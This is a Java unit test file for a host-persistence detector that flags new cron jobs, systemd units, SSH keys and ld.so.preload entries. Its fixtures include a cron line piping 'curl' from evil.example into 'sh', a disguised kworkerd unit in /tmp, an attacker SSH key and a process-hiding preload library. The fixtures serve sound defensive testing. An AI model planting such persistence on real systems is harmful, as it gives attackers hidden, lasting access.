package rack.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static rack.detect.SnapshotBuilder.host;

import org.junit.jupiter.api.Test;
import rack.model.Finding;
import rack.model.FindingKind;
import rack.model.Severity;

class PersistenceLearningTest {
  private static final String ROOT_CRONTAB = "/var/spool/cron/crontabs/root";

  private static SnapshotBuilder original() {
    return host()
        .cron(ROOT_CRONTAB, "0 3 * * * /usr/local/bin/backup")
        .unit("api.service", "/usr/bin/docker start -a api")
        .key("/root/.ssh/authorized_keys", "AAAAkeyOfTheAdmin", "admin@laptop");
  }

  @Test
  void firstCheckLearnsLaterAdditionsAreFindings() {
    Checks checks = Checks.withDefaults();
    assertTrue(checks.next(original()).healthy());
    assertTrue(checks.next(original()).healthy());
    Evaluation e = checks.next(original()
        .cron(ROOT_CRONTAB, "*/5 * * * * curl -s http://evil.example/x.sh | sh")
        .unit("kworkerd.service", "/tmp/.k/kworkerd")
        .key("/root/.ssh/authorized_keys", "AAAAattacker", "root@evil"));
    Finding cron = Checks.only(e, FindingKind.CRON_ADDED);
    assertEquals(Severity.HIGH, cron.severity());
    assertEquals(ROOT_CRONTAB, cron.fact("path"));
    assertEquals("*/5 * * * * curl -s http://evil.example/x.sh | sh", cron.fact("line"));
    Finding unit = Checks.only(e, FindingKind.SYSTEMD_UNIT_ADDED);
    assertEquals("kworkerd.service", unit.subject());
    assertEquals("/etc/systemd/system/kworkerd.service", unit.fact("path"));
    Finding key = Checks.only(e, FindingKind.AUTHORIZED_KEY_ADDED);
    assertEquals("AAAAattacker", key.fact("sha256"));
    assertEquals(3, e.findings().size());
  }

  @Test
  void additionsAreNeverLearnedSoTheyKeepBeingReported() {
    Checks checks = Checks.withDefaults();
    checks.next(original());
    SnapshotBuilder infected = original().cron("/etc/cron.d/x", "@reboot root /tmp/x");
    assertEquals(1, checks.next(infected).findings().size());
    assertEquals(1, checks.next(infected).findings().size());
    assertTrue(checks.next(original()).healthy(), "removed: clean again");
  }

  @Test
  void changedExecStartOfAKnownUnitCounts() {
    Checks checks = Checks.withDefaults();
    checks.next(original());
    Evaluation e = checks.next(host()
        .cron(ROOT_CRONTAB, "0 3 * * * /usr/local/bin/backup")
        .unit("api.service", "/tmp/.hidden/api")
        .key("/root/.ssh/authorized_keys", "AAAAkeyOfTheAdmin", "admin@laptop"));
    assertEquals("api.service", Checks.only(e, FindingKind.SYSTEMD_UNIT_ADDED).subject());
  }

  @Test
  void whitespaceChangesInCronAreNotAdditions() {
    Checks checks = Checks.withDefaults();
    checks.next(original());
    assertTrue(checks.next(host()
        .cron(ROOT_CRONTAB, "0  3 * * *   /usr/local/bin/backup ")
        .unit("api.service", "/usr/bin/docker start -a api")
        .key("/root/.ssh/authorized_keys", "AAAAkeyOfTheAdmin", "admin@laptop")).healthy());
  }

  @Test
  void unreachableFirstCheckDoesNotLearnAnEmptyBaseline() {
    Checks checks = Checks.withDefaults();
    checks.next(host().unreachable("connection refused"));
    assertTrue(!checks.baselines().inventory().learned());
    assertTrue(checks.next(original()).healthy());
  }

  @Test
  void ldPreloadIsAlwaysCriticalEvenOnTheFirstCheck() {
    Finding f = Checks.only(Checks.withDefaults().next(host().ldPreload("# comment").ldPreload("/usr/lib/libprocesshider.so")),
        FindingKind.LD_PRELOAD);
    assertEquals(Severity.CRITICAL, f.severity());
    assertEquals("/usr/lib/libprocesshider.so", f.fact("line"));
    assertEquals("anomaly-staging-ld-preload-etc_ld.so.preload", f.fingerprint());
    assertTrue(Checks.withDefaults().next(host().ldPreload("  ").ldPreload("# only a comment")).healthy());
  }
}
